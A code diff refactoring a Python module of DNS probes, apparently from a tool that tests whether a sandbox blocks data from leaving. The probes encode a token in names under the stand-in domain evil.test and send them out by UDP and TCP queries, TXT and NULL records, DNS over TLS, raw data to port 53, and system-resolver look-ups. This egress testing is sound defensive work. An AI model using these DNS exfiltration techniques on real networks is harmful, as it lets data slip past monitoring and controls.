@@ -7,65 +7,44 @@ import socket
 import struct
 from pathlib import Path
 
-from exeat.attack.model import BOUNDARIES, Absent, Evidence, Group, Scene, Stopped, need
-from exeat.attack.moves import WAIT_S, ask, dns_query, say_tcp
+from exeat.attack.model import BOUNDARIES, Evidence, Group, Run, Scene, Stopped, need, need_our_resolver
+from exeat.attack.moves import WAIT_S, ask, connected, dns_query, family_of, say_tcp, say_udp
 
 GROUP = Group("dns", "DNS", BOUNDARIES)
-_NO_LOW = "this user cannot open port 53"
-_A, _NULL, _TXT, _ANY = 1, 10, 16, 255
-_OURS = "the system's resolver is not the fake one, and a look-up would leave the machine"
+_A, _NULL, _TXT = 1, 10, 16
 
 
 def _name(scene: Scene) -> str:
     return f"{scene.token}.evil.test"
 
 
-def _query(scene: Scene, kind: int) -> str:
-    place = need(scene.udp, "dns", _NO_LOW)
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.settimeout(WAIT_S)
-        sock.sendto(dns_query(_name(scene), kind), place)
-        answer = sock.recv(1000)
-    return f"answer code {answer[3] & 15}"
+def _query(kind: int, key: str = "dns") -> Run:
+    def ask_by_udp(scene: Scene) -> str:
+        place = need(scene.udp, key)
+        with socket.socket(family_of(place[0]), socket.SOCK_DGRAM) as sock:
+            sock.settimeout(WAIT_S)
+            sock.sendto(dns_query(_name(scene), kind), place)
+            return f"answer code {sock.recv(1000)[3] & 15}"
+
+    return ask_by_udp
 
 
-@GROUP.probe("D3.udp53-a", "another resolver by UDP: A")
-def query_a(scene: Scene) -> str:
-    return _query(scene, _A)
-
-
-@GROUP.probe("D3.udp53-txt", "another resolver by UDP: TXT")
-def query_txt(scene: Scene) -> str:
-    return _query(scene, _TXT)
-
-
-@GROUP.probe("D3.udp53-null", "another resolver by UDP: NULL")
-def query_null(scene: Scene) -> str:
-    return _query(scene, _NULL)
-
-
-@GROUP.probe("D3.udp53-v6", "another resolver by UDP over IPv6")
-def query_v6(scene: Scene) -> str:
-    place = need(scene.udp, "dns6", "port 53 of ::1 cannot be had")
-    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
-        sock.settimeout(WAIT_S)
-        sock.sendto(dns_query(_name(scene), _A), place)
-        return f"answer code {sock.recv(1000)[3] & 15}"
+GROUP.probe("D3.udp53-a", "another resolver by UDP: A")(_query(_A))
+GROUP.probe("D3.udp53-txt", "another resolver by UDP: TXT")(_query(_TXT))
+GROUP.probe("D3.udp53-null", "another resolver by UDP: NULL")(_query(_NULL))
+GROUP.probe("D3.udp53-v6", "another resolver by UDP over IPv6")(_query(_A, "dns6"))
 
 
 @GROUP.probe("D3.tcp53", "another resolver by TCP")
 def query_tcp(scene: Scene) -> str:
-    place = need(scene.tcp, "dns", _NO_LOW)
     query = dns_query(_name(scene), _TXT)
-    with socket.socket() as sock:
-        sock.settimeout(WAIT_S)
-        sock.connect(place)
+    with connected(need(scene.tcp, "dns")) as sock:
         return ask(sock, struct.pack("!H", len(query)) + query)
 
 
 @GROUP.probe("D3.dot", "DNS over TLS, port 853")
 def dot(scene: Scene) -> str:
-    return say_tcp(scene, need(scene.tcp, "dot", "this user cannot open port 853"))
+    return say_tcp(scene, need(scene.tcp, "dot"))
 
 
 @GROUP.probe("D3.high-port", "a resolver on another port")
@@ -77,16 +56,12 @@ def high_port(scene: Scene) -> str:
 
 @GROUP.probe("D4.not-dns", "data to port 53 that is no DNS")
 def not_dns(scene: Scene) -> str:
-    place = need(scene.udp, "dns", _NO_LOW)
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.sendto(scene.token.encode() * 20, place)
-    return "sent"
+    return say_udp(scene, need(scene.udp, "dns"), suffix=scene.token.encode() * 19)
 
 
 @GROUP.probe("D1.lookup", "data in a name, asked of the system's resolver")
 def lookup(scene: Scene) -> str:
-    if not scene.resolver_is_ours:
-        raise Absent(_OURS)
+    need_our_resolver(scene)
     try:
         socket.getaddrinfo(_name(scene), 443)  # noqa: TID251 - as any program does it
     except socket.gaierror as error:
@@ -96,8 +71,7 @@ def lookup(scene: Scene) -> str:
 
 @GROUP.probe("D1.below-allowed", "data in a name below the allowed one")
 def below_allowed(scene: Scene) -> str:
-    if not scene.resolver_is_ours:
-        raise Absent(_OURS)
+    need_our_resolver(scene)
     with contextlib.suppress(socket.gaierror):
         socket.getaddrinfo(f"{scene.token}.{scene.allowed[0]}", 443)  # noqa: TID251
     return "asked"
@@ -105,12 +79,11 @@ def below_allowed(scene: Scene) -> str:
 
 @GROUP.probe("D1.txt-lookup", "data in a TXT query to the system's resolver")
 def txt_lookup(scene: Scene) -> str:
-    if not scene.resolver_is_ours:
-        raise Absent(_OURS)
+    need_our_resolver(scene)
     lines = Path("/etc/resolv.conf").read_text().splitlines()
     servers = [line.split()[1] for line in lines if line.startswith("nameserver")]
     for server in servers:
-        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        with socket.socket(family_of(server), socket.SOCK_DGRAM) as sock:
             sock.settimeout(WAIT_S)
             with contextlib.suppress(TimeoutError):
                 sock.sendto(dns_query(_name(scene), _TXT), (server, 53))
